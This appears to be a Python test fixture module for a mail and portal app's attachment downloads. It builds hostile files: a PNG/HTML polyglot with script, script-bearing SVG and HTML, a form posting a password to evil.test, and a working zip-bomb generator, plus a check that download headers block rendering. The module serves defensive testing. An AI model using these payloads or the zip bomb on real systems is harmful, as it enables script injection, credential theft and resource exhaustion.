"""Hostile files for the attachment tests (mail and portal): a PNG that turns into HTML, an SVG
and an HTML page with script, a zip bomb; and the one check every download answer must pass."""

from __future__ import annotations

import functools
import io
import struct
import zlib
from typing import Any

PWN = "window.__pwned='file';alert('file')"
PNG_THEN_HTML = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"  # a PNG's magic and first chunk header
    + f'<html><body><script>{PWN}</script><img src=x onerror="{PWN}"></body></html>'.encode()
)
SVG_WITH_SCRIPT = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    f'onload="{PWN}"><script>{PWN}</script><circle r="5"/></svg>'
).encode()
HTML_PAGE = (
    f'<!doctype html><html><body onload="{PWN}"><script>{PWN}</script>'
    '<form action="https://evil.test/steal"><input name=pw></form></body></html>'
).encode()
BOMB_ENTRIES, BOMB_ENTRY_BYTES = 3, 1 << 30  # 3 GiB once unpacked


@functools.cache
def zip_bomb() -> bytes:
    """A valid zip of about 3 MB whose three entries unpack to 1 GiB of zeros each.

    Built without compressing 3 GiB: one deflate block of 16 MiB of zeros, ended with a full
    flush (so it decodes on its own), repeated, then an empty final block."""
    size = BOMB_ENTRY_BYTES
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(bytes(16 << 20)) + comp.flush(zlib.Z_FULL_FLUSH)
    stream = block * (size // (16 << 20)) + b"\x03\x00"
    mib, crc = bytes(1 << 20), 0
    for _ in range(size >> 20):
        crc = zlib.crc32(mib, crc)
    out, central = io.BytesIO(), b""
    for i in range(BOMB_ENTRIES):
        name = f"backup-{i}.img".encode()
        offset = out.tell()
        sizes = (crc, len(stream), size, len(name))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, *sizes, 0) + name)
        out.write(stream)
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, *sizes, 0, 0, 0, 0, 0, offset
        )
        central += name
    start = out.tell()
    out.write(central)
    n = BOMB_ENTRIES
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), start, 0))
    return out.getvalue()


def assert_download_only(response: Any, data: bytes | None = None) -> None:
    """An answer a browser can only save: never render, sniff, script or frame it."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/octet-stream", response["Content-Type"]
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment"), disposition
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = [p.strip() for p in response["Content-Security-Policy"].split(";")]
    assert "default-src 'none'" in policy and "sandbox" in policy, policy
    if data is not None:
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert body == data
